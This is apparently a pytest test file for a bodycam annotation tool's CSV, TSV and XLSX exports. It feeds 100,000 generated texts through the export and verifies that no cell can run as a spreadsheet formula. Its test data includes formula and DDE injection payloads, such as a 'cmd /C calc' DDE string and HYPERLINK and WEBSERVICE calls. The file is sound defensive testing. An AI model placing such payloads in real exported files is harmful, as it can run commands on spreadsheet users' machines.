"""100,000 texts that spreadsheets may run, through every table: none is left, all come back.

Written files are read with Python's csv and zipfile, not with ours.
"""

import csv
import itertools
import random
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from bodycam_annotator.exchange import formats
from bodycam_annotator.exchange.format import Content
from bodycam_annotator.model.project import Project
from tests.unit.exchange.projects import CAMERA, FOOTAGE, TAG, project

CELLS = 100_000
FIELDS = ("text", "note", "speaker", "target", "coder", "codebook")
_SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
_BEFORE = ["", "'", "''", "'\t", "\t'", " ", "\xa0", "\u2003", "\u200b", "\ufeff", "\u202e", '"']
_BODIES = [
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    'HYPERLINK("http://example.org/?"&A1;"click")',
    'WEBSERVICE("http://example.org")',
    "1+1",
    "SUM(1;2),=2",
    "x\n=1+1\n",
    '",=1+1,"',
    "x\t=1+1",
    "x;=1+1;",
    'x;"=1+1";',
    ",=1+1",
    "x\r=1+1",
    "_x003D_1",
    "",
]
_RUNS = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
_SIGN = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20]")
_OURS = re.compile(r"-?[0-9]+(\.[0-9]{9})?|-[0-9]+:[0-9]{2}:[0-9]{2}\.[0-9]{3}")


@pytest.fixture(scope="module")
def hostile() -> Project:
    chance = random.Random(9)
    every = ["".join(parts) for parts in itertools.product(_BEFORE, _SIGNS, _BODIES)]
    texts = [f"{chance.choice(every)}{chance.choice(every)}" for _ in range(CELLS - len(every))]
    texts = [*every, *texts]
    # Of the other columns as few as can be: what is tried is texts, and workbooks take long.
    bare = replace(TAG, start_frame=None, end_frame=None, start_pts=None, end_pts=None)
    bare = replace(bare, uncertainty_ns=None, basis=None)
    tags = []
    for number in range(0, CELLS, len(FIELDS) + 1):
        some = dict(zip(FIELDS, texts[number + 1 : number + 1 + len(FIELDS)], strict=False))
        tag = replace(bare, id=f"{texts[number]}{number}", attributes={"=1": texts[number]})
        tags.append(replace(tag, **some))  # type: ignore[arg-type]
    camera = replace(CAMERA, name="=1+1")
    return project(*tags, camera=camera, footage=replace(FOOTAGE, path="a/@x.mp4"))


@pytest.mark.parametrize("name", ["csv", "tsv", "xlsx"])
def test_none_runs_and_all_come_back(hostile: Project, name: str, tmp_path: Path) -> None:
    out = tmp_path / f"timeline.{name}"
    formats.write(Content(project=hostile), out, formats.FORMATS[name])
    if name == "xlsx":
        assert_no_formula(out)
    else:
        own = "," if name == "csv" else "\t"
        assert_no_cell_runs(out, own, _RUNS)
        for comma in {*",;\t"} - {own}:
            assert_no_cell_runs(out, comma, _SIGN)
    found = formats.read(out, formats.FORMATS[name])[1]
    rows = {row.tag_id: row for row in found.rows}
    assert rows.keys() == hostile.tags.keys()
    for tag in hostile.tags.values():
        row = rows[tag.id]
        for field in FIELDS:
            assert (getattr(row, field) or "") == getattr(tag, field)
        assert row.attributes == tag.attributes
        assert (row.camera, row.media_file) == ("=1+1", "@x.mp4")


def assert_no_cell_runs(path: Path, comma: str, runs: re.Pattern[str]) -> None:
    with path.open(encoding="utf-8", newline="") as file:
        # As another program would take the file, also where it parts cells by something else.
        for record in csv.reader(file, delimiter=comma):
            for cell in record:
                assert not runs.match(cell) or _OURS.fullmatch(cell), cell


def assert_no_formula(path: Path) -> None:
    """Texts are inline and begin, once read, with nothing that runs when the cell is edited."""
    with zipfile.ZipFile(path) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in parts.namelist() if "externalLink" in name]
    assert not re.search(r"<f[\s>/]", sheet)
    assert set(re.findall(r' t="(\w+)"', sheet)) == {"inlineStr", "n"}
    texts = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", sheet)
    assert len(texts) > CELLS
    for text in texts:
        plain = re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)
        assert not _RUNS.match(plain) or _OURS.fullmatch(plain), plain
